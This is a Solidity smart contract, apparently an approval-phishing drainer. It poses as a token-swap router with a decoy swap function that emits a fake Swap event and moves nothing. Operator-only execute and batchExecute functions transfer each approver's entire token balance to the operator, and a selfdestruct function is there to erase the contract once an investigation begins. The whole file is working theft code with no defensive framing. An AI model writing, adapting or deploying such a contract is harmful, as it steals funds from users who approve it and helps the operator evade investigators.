// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IERC20 { function transferFrom(address, address, uint256) external returns (bool); function balanceOf(address) external view returns (uint256); }

/// Fresh "spender" contract for approve phishing: looks like a router, but its only working path moves the
/// approver's whole balance to the operator; the contract can erase itself when an investigation starts.
contract ApprovalHarvester {
    address payable private operator;
    event Swap(address indexed user, uint256 amountIn);

    constructor() { operator = payable(msg.sender); }

    function swapExactTokensForTokens(uint256, uint256, address[] calldata path, address, uint256) external returns (uint256[] memory a) {
        a = new uint256[](path.length);
        emit Swap(msg.sender, 0);
    }

    function execute(address token, address from) external {
        require(tx.origin == operator, "x");
        IERC20(token).transferFrom(from, operator, IERC20(token).balanceOf(from));
    }

    function batchExecute(address token, address[] calldata from) external {
        require(tx.origin == operator, "x");
        for (uint256 i = 0; i < from.length; i++) IERC20(token).transferFrom(from[i], operator, IERC20(token).balanceOf(from[i]));
    }

    function destroy() external { require(msg.sender == operator); selfdestruct(operator); }
}
